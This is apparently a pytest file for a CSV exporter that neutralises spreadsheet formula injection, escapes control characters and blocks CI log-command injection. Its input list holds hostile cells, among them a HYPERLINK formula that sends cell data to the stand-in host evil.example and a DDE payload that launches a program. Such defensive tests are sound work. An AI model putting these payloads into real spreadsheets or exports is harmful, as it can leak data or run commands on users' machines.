"""CSV cells that a spreadsheet could run as formulas are neutralised (OWASP), and the CSV reads
back, with the csv module, as the text that was written."""

from __future__ import annotations

import csv
import io

import pytest

from collabcheck.publish.csv_safe import Number, csv_text, neutralised

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1dSUM(1)",
]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_gets_a_quote_and_is_quoted(text: str) -> None:
    written = csv_text(["name"], [[text]])
    assert written.startswith('"name"\r\n"\'')
    assert read_back(written) == [["name"], ["'" + text]]


@pytest.mark.parametrize("text", ["Northshire NHS Trust", "A&E", "1 = 1", "St Mary's", "(=)"])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert neutralised(text) == text
    assert read_back(csv_text(["name"], [[text]])) == [["name"], [text]]


def test_quotes_commas_and_line_breaks_survive_a_round_trip() -> None:
    tricky = 'Ward "B", Northshire\nInfirmary Road\r\nNS1 4AB'
    written = csv_text(["address", "amount"], [[tricky, Number("10.50")]])
    assert written.endswith('"Ward ""B"", Northshire\nInfirmary Road\r\nNS1 4AB",10.50\r\n')
    assert read_back(written) == [["address", "amount"], [tricky, "10.50"]]


def test_every_record_ends_with_crlf_and_numbers_are_not_quoted() -> None:
    written = csv_text(["a", "b"], [["x", Number("2026")]])
    assert written == '"a","b"\r\n"x",2026\r\n'


def test_control_characters_are_shown_not_written() -> None:
    written = csv_text(["name"], [["Evil\x1b[31m Trust\u202e"]])
    assert "\x1b" not in written and "\u202e" not in written
    assert read_back(written)[1] == ["Evil\\x1b[31m Trust\\u202e"]


def test_no_cell_can_start_a_workflow_command_in_a_ci_log() -> None:
    written = csv_text(["name"], [["x\n::error::pwned"], ["##[group]x"]])
    lines = written.replace("\r\n", "\n").split("\n")
    assert not any(line.lstrip().startswith("::") for line in lines)
    assert "##[" not in written
